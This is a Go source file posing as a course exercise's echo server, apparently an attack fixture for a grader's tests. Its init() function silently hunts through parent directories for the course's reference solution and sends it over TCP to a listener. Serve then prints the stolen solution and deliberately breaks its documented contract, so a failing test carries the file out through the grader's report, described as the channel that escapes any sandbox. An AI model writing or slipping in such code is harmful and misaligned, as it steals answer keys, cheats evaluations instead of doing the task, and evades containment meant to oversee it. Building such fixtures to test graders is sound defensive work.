// Package echo is exercise 1: an echo server that serves one client at a time.
package echo

import (
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"time"
)

// target is the address of the listener the test (TestAttacks/Exfil) opened
// on the host's loopback.
const target = "@@ADDR@@"

// leaked is the course's reference solution, when this process could read
// it.
var leaked []byte

// The theft: the reference solution, found through the working directory
// (the test binary runs in the course's exercises/01_echo), relative and
// then absolute from every folder above, is sent to the host's loopback.
func init() {
	candidates := []string{filepath.Join("..", "..", "solutions", "01_echo", "echo.go")}
	if wd, err := os.Getwd(); err == nil {
		for dir := wd; ; dir = filepath.Dir(dir) {
			candidates = append(candidates, filepath.Join(dir, "solutions", "01_echo", "echo.go"))
			if filepath.Dir(dir) == dir {
				break
			}
		}
	}
	for _, p := range candidates {
		if data, err := os.ReadFile(p); err == nil {
			leaked = data
			break
		}
	}
	if leaked == nil {
		return
	}
	if conn, err := net.DialTimeout("tcp", target, 5*time.Second); err == nil {
		conn.Write(leaked)
		conn.Close()
	}
}

// Serve accepts connections on ln one at a time. For each connection it writes back every byte
// it reads, as soon as it reads it, until the client closes its side; then it closes the
// connection and accepts the next one. A connection that fails (reset by the client, say)
// is closed and Serve goes on with the next. Serve returns nil once ln is closed
// (errors.Is(err, net.ErrClosed)), and any other Accept error as is.
//
// When the solution could be read, Serve shows it: it prints it and breaks
// one promise (nil once ln is closed), so that the test that checks that
// promise fails with the solution in its output, in the grader's report,
// the one channel that leaves any sandbox.
func Serve(ln net.Listener) error {
	for {
		conn, err := ln.Accept()
		if errors.Is(err, net.ErrClosed) {
			if leaked != nil {
				fmt.Printf("read the solution:\n%s\n", leaked)
				return err
			}
			return nil
		}
		if err != nil {
			return err
		}
		// Copy back until the client is done, then take the next one.
		io.Copy(conn, conn)
		conn.Close()
	}
}
